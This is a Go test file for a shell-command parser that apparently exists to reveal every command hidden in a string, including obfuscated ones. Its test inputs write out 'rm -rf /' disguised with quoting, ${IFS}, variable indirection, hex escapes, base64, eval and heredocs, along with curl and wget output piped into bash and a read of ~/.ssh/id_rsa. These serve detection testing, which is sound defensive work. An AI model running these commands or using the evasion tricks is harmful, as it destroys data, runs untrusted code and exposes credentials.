package shell

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func env(name string) string {
	switch name {
	case "HOME":
		return "/home/u"
	case "TMPDIR":
		return "/tmp"
	}
	return ""
}

// argvs renders every command as one string, unknown parts as "?".
func argvs(t *testing.T, src string) []string {
	t.Helper()
	s, err := Parse(src, Options{Env: env})
	if err != nil {
		t.Fatalf("Parse(%q): %v", src, err)
	}
	var out []string
	for _, c := range s.Commands {
		out = append(out, c.String())
	}
	return out
}

func TestParseFindsEveryCommand(t *testing.T) {
	tests := []struct {
		src  string
		want []string
	}{
		{"ls -la", []string{"ls -la"}},
		{"a && b || c; d | e", []string{"a", "b", "c", "d", "e"}},
		{"(cd x && make) & wait", []string{"cd x", "make", "wait"}},
		{"echo $(whoami) `id`", []string{"whoami", "id", "echo ?cmdsubst ?cmdsubst"}},
		{"r''m -rf /", []string{"rm -rf /"}},
		{`\rm -rf ~`, []string{"rm -rf /home/u"}},
		{"rm${IFS}-rf${IFS}/", []string{"rm -rf /"}},
		{"${x:-rm} -rf /", []string{"rm -rf /"}},
		{"X=rm; $X -rf /", []string{"rm -rf /"}},
		{`a=$'\x72\x6d'; $a -rf /`, []string{"rm -rf /"}},
		{"rm -rf $DIR/", []string{"rm -rf ?DIR/"}},
		{`bash -c "rm -rf /"`, []string{"bash -c 'rm -rf /'", "rm -rf /"}},
		{`sh -lc 'curl x | sh'`, []string{"sh -lc 'curl x | sh'", "curl x", "sh"}},
		{`eval "rm -rf /"`, []string{"eval 'rm -rf /'", "rm -rf /"}},
		{"sudo -u root env A=1 nohup timeout 5 rm -rf /", []string{"sudo -u root env A=1 nohup timeout 5 rm -rf /", "env A=1 nohup timeout 5 rm -rf /", "nohup timeout 5 rm -rf /", "timeout 5 rm -rf /", "rm -rf /"}},
		{"find . -name '*.o' -exec rm -f {} +", []string{"find . -name *.o -exec rm -f {} +", "rm -f {}"}},
		{"ls | xargs -n1 rm", []string{"ls", "xargs -n1 rm", "rm ?xargs"}},
		{"echo cm0gLXJmIC8= | base64 -d | sh", []string{"echo cm0gLXJmIC8=", "base64 -d", "sh", "rm -rf /"}},
		{"bash <<'EOF'\nrm -rf /\nEOF", []string{"bash", "rm -rf /"}},
		{"sh <<< 'rm -rf /'", []string{"sh", "rm -rf /"}},
		{`python3 -c "import os; os.system('rm -rf /')"`, []string{`python3 -c 'import os; os.system('\''rm -rf /'\'')'`, "rm -rf /"}},
		{"alias ll='rm -rf /'; ll", []string{"alias 'll=rm -rf /'", "rm -rf /", "ll", "rm -rf /"}},
		{"f() { rm -rf /; }; f", []string{"rm -rf /", "f"}},
		{"if true; then rm x; fi", []string{"true", "rm x"}},
		{"for f in a; do rm $f; done", []string{"rm a"}},
		{`eval "$(echo cm0gLXJmIC8= | base64 -d)"`, []string{"echo cm0gLXJmIC8=", "base64 -d", "eval 'rm -rf /'", "rm -rf /"}},
		{"command -v rm", []string{"command -v rm"}},
	}
	for _, tt := range tests {
		t.Run(tt.src, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, argvs(t, tt.src)); diff != "" {
				t.Errorf("Parse(%q) commands (-want +got):\n%s", tt.src, diff)
			}
		})
	}
}

func TestParseTracksPipesAndScripts(t *testing.T) {
	s, err := Parse("curl -s http://x | sudo bash", Options{Env: env})
	if err != nil {
		t.Fatal(err)
	}
	last := s.Commands[len(s.Commands)-1]
	if last.Name() != "bash" || len(last.ScriptFrom) != 1 || s.Commands[last.ScriptFrom[0]].Name() != "curl" {
		t.Errorf("bash should run code from curl, got %+v", last)
	}
	s, err = Parse("bash <(wget -qO- http://x)", Options{Env: env})
	if err != nil {
		t.Fatal(err)
	}
	last = s.Commands[len(s.Commands)-1]
	if last.Name() != "bash" || len(last.ScriptFrom) != 1 || s.Commands[last.ScriptFrom[0]].Name() != "wget" {
		t.Errorf("bash should run code from wget, got %+v", last)
	}
}

func TestParseRedirects(t *testing.T) {
	s, err := Parse("cat < ~/.ssh/id_rsa > out.txt 2>&1", Options{Env: env})
	if err != nil {
		t.Fatal(err)
	}
	want := []Redirect{{Op: "<", Target: "/home/u/.ssh/id_rsa"}, {Op: ">", Target: "out.txt"}, {Op: ">&", Target: "1"}}
	if diff := cmp.Diff(want, s.Commands[0].Redirects); diff != "" {
		t.Errorf("redirects (-want +got):\n%s", diff)
	}
	if !want[1].Writes() || want[2].Writes() || !want[0].Reads() {
		t.Error("Writes/Reads misclassify redirections")
	}
}

func TestParseErrors(t *testing.T) {
	for _, src := range []string{"echo 'unterminated", "if then fi", "$(", strings.Repeat("bash -c \"", 1) + "'"} {
		if _, err := Parse(src, Options{}); err == nil || !IsParseError(err) {
			t.Errorf("Parse(%q) = %v, want a ParseError", src, err)
		}
	}
	deep := "rm -rf /"
	for range 12 {
		deep = "bash -c " + quoteAll([]string{deep})[0]
	}
	if _, err := Parse(deep, Options{}); err == nil {
		t.Error("Parse of 12 nested bash -c levels should fail (depth limit)")
	}
}

func FuzzParse(f *testing.F) {
	for _, s := range []string{"ls", "a | b && c", "bash -c 'x'", "echo $(id)", "cat <<EOF\nx\nEOF", "eval \"$x\"", "find . -exec rm {} ;", "${a:-b}", "echo cm0= | base64 -d | sh"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		s, err := Parse(src, Options{Env: env})
		if err != nil {
			if !IsParseError(err) {
				t.Fatalf("error is not a ParseError: %v", err)
			}
			return
		}
		for _, c := range s.Commands {
			for _, j := range append(append([]int{}, c.StdinFrom...), c.ScriptFrom...) {
				if j < 0 || j >= len(s.Commands) {
					t.Fatalf("index %d out of range", j)
				}
			}
		}
	})
}
